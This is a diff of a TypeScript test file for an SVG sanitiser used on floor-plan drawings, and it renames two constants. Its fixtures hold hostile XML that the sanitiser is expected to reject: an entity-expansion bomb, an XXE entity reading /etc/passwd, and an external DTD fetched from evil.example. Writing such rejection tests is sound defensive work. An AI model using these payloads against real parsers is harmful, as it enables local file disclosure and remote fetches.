@@ -4,10 +4,10 @@ import { describe, expect, it } from 'vitest';
 import { cleanSvg } from './cleanSvg.ts';
 import { DrawingFault } from './readXml.ts';
 
-const head =
+const HEAD =
   '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 200 100">';
-const wall = '<path d="M0 0h200v100H0z" fill="none" stroke="#333"/>';
-const inside = (part: string, first = head) => Buffer.from(`${first}${wall}${part}</svg>`);
+const WALL = '<path d="M0 0h200v100H0z" fill="none" stroke="#333"/>';
+const inside = (part: string, first = HEAD) => Buffer.from(`${first}${WALL}${part}</svg>`);
 
 function cleaned(content: Buffer): string {
   return cleanSvg(content).svg;
@@ -86,15 +86,15 @@ const shorn: Readonly<Record<string, readonly [written: string, clean: string]>>
 
 const refused: Readonly<Record<string, readonly [content: Buffer, code: string]>> = {
   'entities that multiply': [
-    Buffer.from(`<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${head}<text>&b;</text></svg>`),
+    Buffer.from(`<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${HEAD}<text>&b;</text></svg>`),
     'drawingEntities',
   ],
   'an entity that is a file': [
-    Buffer.from(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${head}<text>&x;</text></svg>`),
+    Buffer.from(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${HEAD}<text>&x;</text></svg>`),
     'drawingEntities',
   ],
   'an outside type with parameters': [
-    Buffer.from(`<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd" [<!ENTITY % p SYSTEM "x">%p;]>${head}${wall}</svg>`),
+    Buffer.from(`<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd" [<!ENTITY % p SYSTEM "x">%p;]>${HEAD}${WALL}</svg>`),
     'drawingEntities',
   ],
   'a type in the middle': [inside('<!DOCTYPE svg>'), 'drawingEntities'],
@@ -125,20 +125,20 @@ const refused: Readonly<Record<string, readonly [content: Buffer, code: string]>
     'drawingTooComplex',
   ],
   'an attribute twice': [inside('<rect width="1" width="2"/>'), 'drawingBroken'],
-  'a tag that is not closed': [Buffer.from(`${head}<g>`), 'drawingBroken'],
+  'a tag that is not closed': [Buffer.from(`${HEAD}<g>`), 'drawingBroken'],
   'tags that cross': [inside('<g><text></g></text>'), 'drawingBroken'],
-  'two roots': [Buffer.from(`${head}${wall}</svg>${head}</svg>`), 'drawingBroken'],
-  'text after the root': [Buffer.from(`${head}${wall}</svg>alert(1)`), 'drawingBroken'],
+  'two roots': [Buffer.from(`${HEAD}${WALL}</svg>${HEAD}</svg>`), 'drawingBroken'],
+  'text after the root': [Buffer.from(`${HEAD}${WALL}</svg>alert(1)`), 'drawingBroken'],
   'a page of HTML': [Buffer.from('<html><svg viewBox="0 0 1 1"/></html>'), 'drawingBroken'],
   'another namespace': [Buffer.from('<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 1 1"/>'), 'drawingBroken'],
-  'another encoding': [Buffer.from(`\ufeff${head}${wall}</svg>`, 'utf16le'), 'drawingBroken'],
+  'another encoding': [Buffer.from(`\ufeff${HEAD}${WALL}</svg>`, 'utf16le'), 'drawingBroken'],
   'bytes that are no text': [Buffer.concat([inside(''), Buffer.from([0xff, 0xfe])]), 'drawingBroken'],
   'a packed file': [Buffer.from('1f8b0800', 'hex'), 'drawingBroken'],
-  'no size': [inside('', head.replace('viewBox="0 0 200 100"', '')), 'drawingSize'],
-  'a size of nothing': [inside('', head.replace('200 100', '0 100')), 'drawingSize'],
-  'a size without end': [inside('', head.replace('200 100', '1e99 100')), 'drawingSize'],
-  'a strip': [inside('', head.replace('200 100', '9000 1')), 'drawingSize'],
-  'nothing to draw': [Buffer.from(`${head}<image href="data:image/png;base64,AA"/></svg>`), 'drawingEmpty'],
+  'no size': [inside('', HEAD.replace('viewBox="0 0 200 100"', '')), 'drawingSize'],
+  'a size of nothing': [inside('', HEAD.replace('200 100', '0 100')), 'drawingSize'],
+  'a size without end': [inside('', HEAD.replace('200 100', '1e99 100')), 'drawingSize'],
+  'a strip': [inside('', HEAD.replace('200 100', '9000 1')), 'drawingSize'],
+  'nothing to draw': [Buffer.from(`${HEAD}<image href="data:image/png;base64,AA"/></svg>`), 'drawingEmpty'],
 };
 
 describe('an SVG of a floor', () => {
@@ -173,7 +173,7 @@ describe('an SVG of a floor', () => {
 
   it('has the size of its view box, else of its width and height, and may have a prefix (MAP-06)', () => {
     expect(cleanSvg(inside(''))).toMatchObject({ width: 200, height: 100 });
-    const millimetres = inside('', head.replace('viewBox="0 0 200 100"', 'width="25.4mm" height="1in"'));
+    const millimetres = inside('', HEAD.replace('viewBox="0 0 200 100"', 'width="25.4mm" height="1in"'));
     expect(cleanSvg(millimetres)).toMatchObject({ width: 96, height: 96 });
     const prefixed = Buffer.from(
       '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd"><s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="-5 -5 10 10"><s:rect width="1"/><rect width="2"/></s:svg>',
